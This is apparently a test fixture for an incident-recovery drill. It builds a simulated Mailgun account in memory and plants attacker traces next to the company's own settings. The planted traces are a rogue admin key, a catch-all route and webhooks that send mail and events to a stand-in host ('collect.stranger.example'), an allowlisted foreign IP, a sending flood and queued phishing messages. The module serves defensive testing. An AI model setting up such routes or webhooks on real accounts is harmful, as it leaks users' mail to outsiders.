"""What an attacker leaves on an account, beside what the company itself has there.

What the company has is old and leads to its own hosts; what the attacker left is two days old at most and leads
to a stranger's. A recovery should find exactly the latter.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta

from drill.mailgun.accounts import Prepared
from drill.mailgun.model import Account, Domain, Key, KeyKind, KeyRole, new_key_id, new_secret
from drill.mailgun.outlets import Alert, AllowedAddress, Archive, QueuedMessage, Route, Webhook, WebhookEvent
from drill.mailgun.places import Region, StorageHost
from drill.mailgun.times import utc_now

STRANGER = "collect.stranger.example"
"""The attacker's host."""

OWN_HOST = "hooks.example.com"
"""The company's host."""

STRANGE_ADDRESS = "198.51.100.66"
STRANGE_REQUESTOR = "admin@stranger.example"

DAYS_OF_HISTORY = 30
FLOOD_DAYS = 2
FLOOD_FACTOR = 40

_BROKE_IN = timedelta(days=2)
_OWN_AGE = timedelta(days=180)
_QUEUED = 3


@dataclass(frozen=True)
class Left:
    """What the attacker left: all that a recovery should find, by the names under which Mailgun shows it."""

    key_id: str
    route_region: Region
    route_id: str
    webhook_domain: str
    webhook_url: str
    webhook_events: tuple[WebhookEvent, ...]
    allowed_address: str
    archive_domain: str
    archive_to: str
    flooded_domain: str
    usual_a_day: int
    """What the flooded domain sends on a usual day; the flood is `FLOOD_FACTOR` times that, for `FLOOD_DAYS`."""
    queued_domain: str
    queued_host: StorageHost
    queued: int


@dataclass(frozen=True)
class Own:
    """What the company had there before: all that a recovery should leave alone."""

    route_ids: tuple[str, ...]
    webhook_urls: tuple[str, ...]
    allowed_addresses: tuple[str, ...]
    alert_ids: tuple[str, ...]


@dataclass(frozen=True)
class Visit:
    """An account after the attacker's visit: what is whose."""

    left: Left
    own: Own


def an_attacker_was_there(prepared: Prepared, at: datetime | None = None) -> Visit:
    """Leave on a prepared account what the company has there, and what an attacker left two days before `at`.

    The webhook is on the account's first EU domain, the copies are of its second US domain, and the flood and
    the queued mail are of its first; where there are fewer domains, the first US domain has it. Every domain,
    those of subaccounts too, gets 30 days of history, the day of `at` among them.

    Raises:
        ValueError: the account has no US domain of its own.
    """
    at = utc_now() if at is None else at
    account = prepared.account
    in_us, in_eu = account.estate.in_region(Region.US), account.estate.in_region(Region.EU)
    if not in_us:
        raise ValueError("the account needs a domain in the US region")
    own = _furnish(account, at - _OWN_AGE)
    usual = _send_as_usual(account, at)
    left = _Visitor(account, at).leave(
        flooded=in_us[0], usual=usual[in_us[0].name], copied=in_us[min(1, len(in_us) - 1)], heard=[*in_eu, *in_us][0]
    )
    return Visit(left, own)


def _furnish(account: Account, at: datetime) -> Own:
    """The company's own routes, webhooks, alerts, and the address from which it calls."""
    estate = account.estate
    for domain in estate.domains:
        domain.webhooks += [
            Webhook(event=event, url=f"https://{OWN_HOST}/mailgun/{domain.name}", created_at=at)
            for event in (WebhookEvent.DELIVERED, WebhookEvent.PERMANENT_FAIL)
        ]
    first = {domain.region: domain for domain in reversed(estate.domains)}
    routes = [
        Route(
            region=region,
            expression=f'match_recipient("support@{domain.name}")',
            actions=(f'forward("https://{OWN_HOST}/support")', "stop()"),
            description="Support desk",
            created_at=at,
        )
        for region, domain in first.items()
    ]
    alerts = [
        Alert("Complaints", "complained_rate", ">", "0.01", "domain", at),
        Alert("Hard bounces", "hard_bounce_rate", ">", "0.05", "domain", at, channels=("email", "slack")),
    ]
    office = AllowedAddress(address=account.calls_come_from, description="Office", created_at=at)
    estate.routes += routes
    estate.alerts += alerts
    account.allowlist.append(office)
    return Own(
        route_ids=tuple(route.id for route in routes),
        webhook_urls=tuple(webhook.url for domain in estate.domains for webhook in domain.webhooks[:1]),
        allowed_addresses=(office.address,),
        alert_ids=tuple(alert.id for alert in alerts),
    )


def _send_as_usual(account: Account, at: datetime) -> dict[str, int]:
    """A month of steady sending for every domain; what each sends on a usual day."""
    domains = [domain for _, estate in account.estates() for domain in estate.domains]
    usual = {domain.name: 40 + 5 * (number % 5) for number, domain in enumerate(domains)}
    for name, count in usual.items():
        # A few more on some days than on others, as in life, and the same in every run.
        account.sent_by_day[name] = {at.date() - timedelta(days=ago): count + ago % 3 for ago in range(DAYS_OF_HISTORY)}
    return usual


class _Visitor:
    """The attacker, who made a key two days ago and did all the rest with it."""

    def __init__(self, account: Account, at: datetime) -> None:
        self._account = account
        self._at = at
        self._key_id = new_key_id()

    def leave(self, flooded: Domain, usual: int, copied: Domain, heard: Domain) -> Left:
        self._make_key()
        route = self._forward(flooded)
        url, events = f"https://{STRANGER}/events", (WebhookEvent.DELIVERED, WebhookEvent.OPENED)
        made, by = self._after(minutes=9), self._key_id
        heard.webhooks += [Webhook(event=event, url=url, created_at=made, created_by=by) for event in events]
        self._allow()
        archive = Archive(url=f"https://{STRANGER}/copies", created_at=self._after(minutes=15), created_by=by)
        copied.archives.append(archive)
        self._flood(flooded, usual)
        return Left(
            key_id=self._key_id,
            route_region=route.region,
            route_id=route.id,
            webhook_domain=heard.name,
            webhook_url=url,
            webhook_events=events,
            allowed_address=STRANGE_ADDRESS,
            archive_domain=copied.name,
            archive_to=archive.url,
            flooded_domain=flooded.name,
            usual_a_day=usual,
            queued_domain=flooded.name,
            queued_host=StorageHost.US_EAST,
            queued=_queue(self._account, flooded, StorageHost.US_EAST, self._at, self._key_id),
        )

    def _after(self, minutes: int) -> datetime:
        """So long after the attacker broke in."""
        return self._at - _BROKE_IN + timedelta(minutes=minutes)

    def _make_key(self) -> None:
        """An admin key without a description. The plan's limit may be full: the company sees one key too many."""
        secret, created = new_secret(self._key_id), self._after(minutes=0)
        key = Key(
            self._key_id, secret, KeyKind.USER, KeyRole.ADMIN, "", requestor=STRANGE_REQUESTOR, created_at=created
        )
        self._account.estate.keys.append(key)

    def _forward(self, domain: Domain) -> Route:
        """A route that copies all that comes in, and lets the company's own routes do their work."""
        route = Route(
            region=Region.US,
            expression=f'match_recipient(".*@{domain.name}")',
            actions=(f'forward("https://{STRANGER}/inbox")',),
            created_at=self._after(minutes=5),
            created_by=self._key_id,
        )
        self._account.estate.routes.append(route)
        return route

    def _allow(self) -> None:
        made = self._after(minutes=12)
        entry = AllowedAddress(address=STRANGE_ADDRESS, created_at=made, created_by=self._key_id)
        self._account.allowlist.append(entry)

    def _flood(self, domain: Domain, usual: int) -> None:
        by_day = self._account.sent_by_day[domain.name]
        for ago in range(FLOOD_DAYS):
            by_day[self._at.date() - timedelta(days=ago)] = FLOOD_FACTOR * usual


def _queue(account: Account, domain: Domain, host: StorageHost, at: datetime, by: str) -> int:
    """Have a storage host keep mail that is due a day after `at`; how many messages."""
    messages: Sequence[QueuedMessage] = [
        QueuedMessage(
            domain=domain.name,
            recipient=f"victim{number}@example.org",
            subject="Your account is on hold",
            due_at=at + timedelta(days=1),
            host=host,
            created_at=at - _BROKE_IN + timedelta(minutes=30),
            created_by=by,
        )
        for number in range(1, _QUEUED + 1)
    ]
    account.queued += messages
    return len(messages)
